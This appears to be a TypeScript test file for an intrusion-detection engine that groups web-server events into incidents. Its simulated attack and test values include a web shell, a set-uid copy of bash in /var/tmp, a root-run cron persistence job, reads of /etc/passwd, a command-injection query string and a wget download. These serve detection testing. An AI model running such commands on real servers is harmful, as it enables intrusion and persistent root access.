import assert from 'node:assert/strict'
import { test } from 'node:test'

import {
  apache,
  assertSound,
  cron,
  idOf,
  ids,
  init,
  Scene,
  serverShell,
  shell,
  texts,
  tool,
  worker,
} from './story-under-test.ts'

const attacker = '127.0.0.66'
const visitor = '127.0.0.77'
const shellPath = '/var/www/html/uploads/a.php'

/** Serves one request: connection, line; what happens in between. */
function serve(
  scene: Scene,
  who: string,
  {
    by,
    request,
    act,
  }: { readonly by: ReturnType<typeof worker>; readonly request: string; readonly act?: () => void },
): void {
  const port = 40_000 + scene.ms
  scene.net('accept', by, [`${who}:${port}`, '127.0.0.1:80'])
  act?.()
  scene.line(who, request)
  scene.net('close', by, [`${who}:${port}`, '127.0.0.1:80'])
}

function upload(scene: Scene): void {
  serve(scene, attacker, {
    by: worker(101),
    request: 'POST /upload.php',
    act: () => scene.at(scene.ms + 3).file('rename', shellPath, worker(101), { inode: '77' }),
  })
}

function command(
  scene: Scene,
  text: string,
  { pid, by }: { readonly pid: number; readonly by: number },
): ReturnType<typeof shell> {
  const started = shell(pid, text, worker(by))
  serve(scene, attacker, {
    by: worker(by),
    request: `GET /uploads/a.php?cmd=${encodeURIComponent(text)}`,
    act: () => scene.at(scene.ms + 2).exec(started, serverShell),
  })
  return started
}

test('upload, web shell, set-uid program, cron job and its run as root are one incident, in order', () => {
  const scene = new Scene({ hostAddresses: ['10.1.1.1'] })
  scene.at(1100)
  upload(scene)
  scene.at(3000)
  command(scene, 'id', { pid: 201, by: 102 })
  scene.at(4000)
  const dropper = command(scene, 'cp /bin/bash /var/tmp/.x; chmod 4755 /var/tmp/.x', { pid: 202, by: 103 })
  const cp = tool(203, 'cp /bin/bash /var/tmp/.x', dropper)
  const chmod = tool(204, 'chmod 4755 /var/tmp/.x', dropper)
  scene.at(4010).exec(cp)
  scene.at(4012).file('create', '/var/tmp/.x', cp, { inode: '5' })
  scene.at(4020).exec(chmod)
  scene.at(4021).file('setuid-added', '/var/tmp/.x', chmod, { kind: 'alert', severity: 80, inode: '5' })
  scene.at(5000)
  const planter = command(scene, 'echo "* * * * * /var/tmp/.x -p" | crontab -', { pid: 205, by: 104 })
  const crontab = tool(206, 'crontab -', planter)
  scene.at(5010).exec(crontab)
  scene.at(5011).file('autostart-added', '/var/spool/cron/crontabs/www-data', crontab, { severity: 60 })
  scene.at(5012).send({
    event: { dataset: 'hx.schedule', category: ['configuration'], action: 'job-added' },
    process: crontab,
    file: { path: '/var/spool/cron/crontabs/www-data' },
    hx: {
      schedule: {
        kind: 'crontab',
        schedule: '* * * * *',
        command: '/var/tmp/.x -p',
        user: 'www-data',
        active: true,
      },
    },
  })
  const job = shell(300, '/var/tmp/.x -p', cron)
  scene.at(60_000).exec(job)
  const run = tool(301, '/var/tmp/.x -p', job, 'root')
  scene.at(60_010).exec(run)
  scene.at(60_020).file('create', '/var/tmp/.owned', run)
  const incident = scene.one()
  assertSound(incident)
  assert.deepEqual(texts(incident), [
    `127.0.0.66 uploaded ${shellPath} by POST /upload.php (200)`,
    `apache2 stored ${shellPath} for POST /upload.php`,
    '127.0.0.66 had a command run by GET /uploads/a.php?cmd=id (200)',
    'apache2 started sh -c id (pid 201) for GET /uploads/a.php?cmd=id',
    '127.0.0.66 had a command run by GET /uploads/a.php?cmd=cp%20%2Fbin%2Fbash%20%2Fvar%2Ftmp%2F.x%3B%20chmod%204755%20%2Fvar%2Ftmp%2F.x (200)',
    'apache2 started sh -c cp /bin/bash /var/tmp/.x; chmod 4755 /var/tmp/.x (pid 202) for GET /uploads/a.php?cmd=cp%20%2Fbin%2Fbash%20%2Fvar%2Ftmp%2F.x%3B%20chmod%204755%20%2Fvar%2Ftmp%2F.x',
    'sh started cp /bin/bash /var/tmp/.x (pid 203)',
    'cp wrote /var/tmp/.x',
    'sh started chmod 4755 /var/tmp/.x (pid 204)',
    '/var/tmp/.x became set-uid (unknown) by chmod',
    '127.0.0.66 had a command run by GET /uploads/a.php?cmd=echo%20%22*%20*%20*%20*%20*%20%2Fvar%2Ftmp%2F.x%20-p%22%20%7C%20crontab%20- (200)',
    'apache2 started sh -c echo "* * * * * /var/tmp/.x -p" | crontab - (pid 205) for GET /uploads/a.php?cmd=echo%20%22*%20*%20*%20*%20*%20%2Fvar%2Ftmp%2F.x%20-p%22%20%7C%20crontab%20-',
    'sh started crontab - (pid 206)',
    'crontab added to autostart /var/spool/cron/crontabs/www-data',
    'cron job of www-data added: * * * * * /var/tmp/.x -p',
    'cron started sh -c /var/tmp/.x -p (pid 300)',
    'sh started /var/tmp/.x -p (pid 301)',
    '.x wrote /var/tmp/.owned',
  ])
  assert.equal(
    incident.title,
    'Web shell /uploads/a.php: commands, set-uid program, persistence by 127.0.0.66',
  )
  assert.equal(incident.level, 'critical')
  assert.equal(incident.outcome, 'confirmed')
  assert.deepEqual(incident.addresses, [attacker])
  assert.deepEqual(incident.accounts, ['www-data', 'root'])
  const targets = incident.suggestions.map(({ action, target }) => `${action} ${target}`)
  assert.ok(targets.includes(`quarantine ${shellPath}`))
  assert.ok(targets.includes('quarantine /var/tmp/.x'))
  assert.ok(targets.includes('isolate-host '))
  assert.ok(targets.includes(`kill-tree ${job.entity_id ?? ''}`))
  assert.ok(
    !targets.some((target) => target.startsWith('block-address')),
    'a loopback address is not blocked',
  )
})

test('a request of the same second from another address, and what it made the same Apache start, stay out', () => {
  const scene = new Scene()
  scene.at(1100)
  upload(scene)
  scene.at(3000).net('accept', worker(105), [`${visitor}:50000`, '127.0.0.1:80'])
  const benign = shell(250, 'convert /tmp/in.png /tmp/out.png', worker(105))
  scene.at(3001).exec(benign)
  scene.at(3002).line(visitor, 'POST /gallery.php')
  scene.at(3003).line(visitor, 'GET /index.php?q=identity')
  scene.at(3004)
  command(scene, 'id', { pid: 201, by: 102 })
  scene.at(3020).exec(tool(251, 'convert /tmp/in.png /tmp/out.png', benign))
  scene.later(5000)
  const incident = scene.one()
  assertSound(incident)
  assert.equal(
    incident.nodes.some(({ id }) => id.includes(visitor)),
    false,
  )
  assert.equal(ids(incident, 'member').has(idOf(benign)), false)
  assert.equal(ids(incident, 'context').has(idOf(benign)), false)
  assert.equal(
    texts(incident).some((text) => /gallery|index\.php|convert/.test(text)),
    false,
  )
})

test('the right one of two requests of one second is found by the command, also when its line comes first', () => {
  const scene = new Scene()
  const first = shell(201, 'uname -a', worker(101))
  const second = shell(202, 'cat /etc/passwd', worker(102))
  scene.at(1000).line('192.0.2.1', 'GET /ping.php?ip=1%3Bcat+/etc/passwd')
  scene.at(1001).line('192.0.2.2', 'GET /tool.php?run=uname+-a')
  scene.at(1500).exec(first, serverShell)
  scene.at(1510).exec(second, serverShell)
  const incidents = scene.changed()
  const senders = incidents.map(({ links }) =>
    links.filter(({ kind }) => kind === 'caused').map(({ from, to }) => `${from} ${to}`),
  )
  assert.deepEqual(senders, [[`request:2 ${idOf(first)}`], [`request:1 ${idOf(second)}`]])
  assert.deepEqual(
    incidents.map(({ addresses }) => addresses),
    [['192.0.2.2'], ['192.0.2.1']],
  )
})

test('a command of a POST, which no log shows, belongs to the connection that the worker had', () => {
  const scene = new Scene()
  scene.at(1000).net('accept', worker(101), ['192.0.2.9:4000', '10.0.0.1:80'])
  scene.at(1001).net('accept', worker(102), ['192.0.2.8:4000', '10.0.0.1:80'])
  const started = shell(201, 'wget http://x/y', worker(102))
  scene.at(1010).exec(started, serverShell)
  scene.at(1020).line('192.0.2.9', 'POST /a.php')
  scene.at(1021).line('192.0.2.8', 'POST /b.php')
  scene.later(4000)
  const incident = scene.one()
  assert.deepEqual(incident.addresses, ['192.0.2.8'])
  assert.match(incident.links.find(({ kind }) => kind === 'caused')?.why ?? '', /served its connection/)
})

test('with nothing but the time in common, no request is blamed', () => {
  const scene = new Scene()
  const fpm = { ...worker(110), name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' }
  scene.at(1010).exec(shell(201, 'wget http://x/y', fpm), serverShell)
  scene.at(1020).line('192.0.2.9', 'POST /a.php')
  scene.at(1021).line('192.0.2.8', 'GET /b.php?q=1')
  scene.later(4000)
  const incident = scene.one()
  assert.deepEqual(incident.addresses, [])
  assert.equal(
    incident.nodes.some(({ kind }) => kind === 'request'),
    false,
  )
})

test('of several uploads of one second the one whose sender asks for the file later brought it', () => {
  const scene = new Scene()
  const fpm = { ...worker(110), name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' }
  scene.at(1010).file('create', shellPath, fpm)
  scene.at(1500).line('192.0.2.8', 'POST /upload.php')
  scene.at(1501).line('192.0.2.9', 'POST /upload.php')
  scene.later(3000)
  scene.at(6000).line('192.0.2.9', 'GET /uploads/a.php?cmd=id')
  scene.at(6001).exec(shell(201, 'id', fpm), serverShell)
  scene.later(3000)
  const incident = scene.one()
  assert.deepEqual(
    incident.links.filter(({ kind }) => kind === 'uploaded').map(({ from, to }) => `${from} ${to}`),
    [`request:3 file:${shellPath}`],
  )
  assert.deepEqual(incident.addresses, ['192.0.2.9'])
})

test('a verdict about a file that a web server wrote joins the request that brought it, before and after', () => {
  for (const isLate of [false, true]) {
    const scene = new Scene()
    const found = (): void => {
      scene.send({
        event: { dataset: 'hx.verdict', kind: 'alert', category: ['malware'], action: 'open', severity: 80 },
        file: { path: shellPath },
        process: { pid: 4242, name: 'cat', command_line: 'cat a.php' },
        rule: { name: 'Php.Shell' },
        hx: { verdict: { status: 'found', names: ['Php.Shell'] } },
      })
    }
    scene.at(1000)
    if (isLate) scene.file('rename', shellPath, worker(101))
    if (isLate) found()
    else upload(scene)
    if (isLate) scene.net('accept', worker(101), [`${attacker}:1`, '127.0.0.1:80'])
    if (isLate) scene.line(attacker, 'POST /upload.php')
    else found()
    scene.later(4000)
    const incident = scene.one()
    assertSound(incident)
    assert.deepEqual(incident.addresses, [attacker])
    assert.ok(incident.links.some(({ kind }) => kind === 'uploaded'))
    assert.equal(incident.score, 80)
    assert.equal(incident.level, 'high')
  }
})

test('a path of the same name in another folder is not the file', () => {
  const scene = new Scene()
  scene.at(1100)
  upload(scene)
  scene.at(3000)
  command(scene, 'id', { pid: 201, by: 102 })
  scene.at(4000).line(visitor, 'GET /a.php')
  scene.at(4001).line(visitor, 'GET /backups/a.php')
  scene.at(4002).line(visitor, 'GET /xuploads/a.php')
  const incident = scene.one()
  assert.equal(
    incident.nodes.some(({ id }) => id.includes(visitor)),
    false,
  )
})

test('who asks for a page that was there before is a visitor, who asks for the shell is not', () => {
  const scene = new Scene()
  scene.at(1100)
  upload(scene)
  scene.at(3000)
  const started = command(scene, 'echo hacked > /var/www/html/index.html', { pid: 201, by: 102 })
  scene.at(3010).file('write', '/var/www/html/index.html', started)
  scene.at(5000).line(visitor, 'GET /index.html?x=1')
  scene.at(6000).line('192.0.2.5', 'GET /uploads/a.php/x?cmd=w')
  const incident = scene.one()
  assert.deepEqual([...incident.addresses].toSorted(), [attacker, '192.0.2.5'])
})

test('a job of cron that only resembles the planted one, and another run of the same cron, stay out', () => {
  const scene = new Scene()
  const session = shell(200, 'echo x | crontab -', worker(101))
  scene.at(0).exec(session, serverShell)
  const crontab = tool(201, 'crontab -', session)
  scene.at(10).exec(crontab)
  scene.at(11).send({
    event: { dataset: 'hx.schedule', action: 'job-added' },
    process: crontab,
    file: { path: '/var/spool/cron/crontabs/www-data' },
    hx: { schedule: { kind: 'crontab', command: '/opt/evil run', schedule: '* * * * *' } },
  })
  const other = shell(300, '/opt/evil', cron)
  const own = shell(301, '/opt/evil run', cron)
  const byHand = shell(302, '/opt/evil run', init)
  scene.at(60_000).exec(other)
  scene.at(60_001).exec(own)
  const members = ids(scene.one(), 'member')
  assert.equal(members.has(idOf(other)), false)
  assert.equal(members.has(idOf(own)), true)
  assert.equal(members.has(idOf(byHand)), false)
  assert.equal(members.has(idOf(cron)), false)
})

test('scanning is one low incident an address, however long, and becomes the attack when it gets further', () => {
  const scene = new Scene()
  const classes = ['sqli', 'xss']
  for (let at = 0; at < 3000; at++) {
    const web = { class: classes[at % 2] ?? '', outcome: 'failed' }
    scene
      .at(at * 10)
      .line('192.0.2.66', `GET /x${at}.php?id=1'`, 404, { rule: `web-${web.class}`, severity: 60, web })
  }
  const scan = scene.one()
  assertSound(scan)
  assert.equal(scan.level, 'low')
  assert.equal(scan.steps.length, 2)
  assert.equal(scan.steps[0]?.count, 1500)
  assert.match(scan.title, /^Web attacks without success \(sqli, xss\) by 192\.0\.2\.66$/)
  assert.ok(scan.nodes.length < 30)
  assert.deepEqual(scan.suggestions, [])
  scene.at(40_000).line('192.0.2.66', 'GET /run.php?c=id', 200, {
    rule: 'web-rce',
    severity: 70,
    web: { class: 'rce', outcome: 'attempted' },
  })
  scene.at(40_100).exec(shell(400, 'id', worker(101)), serverShell)
  const attack = scene.one()
  assert.equal(attack.id, scan.id)
  assert.equal(attack.outcome, 'confirmed')
  assert.equal(attack.level, 'high')
  assert.ok(
    attack.suggestions.some(({ action, target }) => action === 'block-address' && target === '192.0.2.66'),
  )
  assertSound(attack)
})

test('three classes that are sure are medium, and two addresses are two incidents', () => {
  const scene = new Scene()
  for (const [at, name] of ['sqli', 'xss', 'rce'].entries())
    scene.at(at * 1000).line('192.0.2.1', 'GET /?q=1', 403, {
      rule: name,
      severity: 70,
      web: { class: name, outcome: 'failed', confidence: 95 },
    })
  scene.at(5000).line('192.0.2.2', 'GET /?q=1', 403, {
    rule: 'sqli',
    severity: 70,
    web: { class: 'sqli', outcome: 'failed', confidence: 95 },
  })
  const levels = scene.changed().map(({ level, addresses }) => `${addresses.join()} ${level}`)
  assert.deepEqual(levels, ['192.0.2.1 medium', '192.0.2.2 low'])
})

for (const trusted of ['10.0.0.9', '10.0.0.8/30'])
  test(`a trusted proxy (${trusted}) is nobody: attacks through it do not join by it`, () => {
    const scene = new Scene({ trustedAddresses: [trusted] })
    scene.at(0).exec(apache)
    scene.at(1000).exec(shell(201, 'uname -a', worker(101)), serverShell)
    scene.at(1500).line('10.0.0.9', 'GET /x.php?c=uname%20-a')
    scene.at(90_000).exec(shell(202, 'lsof -i', worker(102)), serverShell)
    scene.at(90_500).line('10.0.0.9', 'GET /y.php?c=lsof%20-i')
    const incidents = scene.changed()
    assert.equal(incidents.length, 2)
    for (const incident of incidents) {
      assertSound(incident)
      assert.deepEqual(incident.addresses, [])
      assert.ok(ids(incident, 'context').has('address:10.0.0.9'))
    }
  })
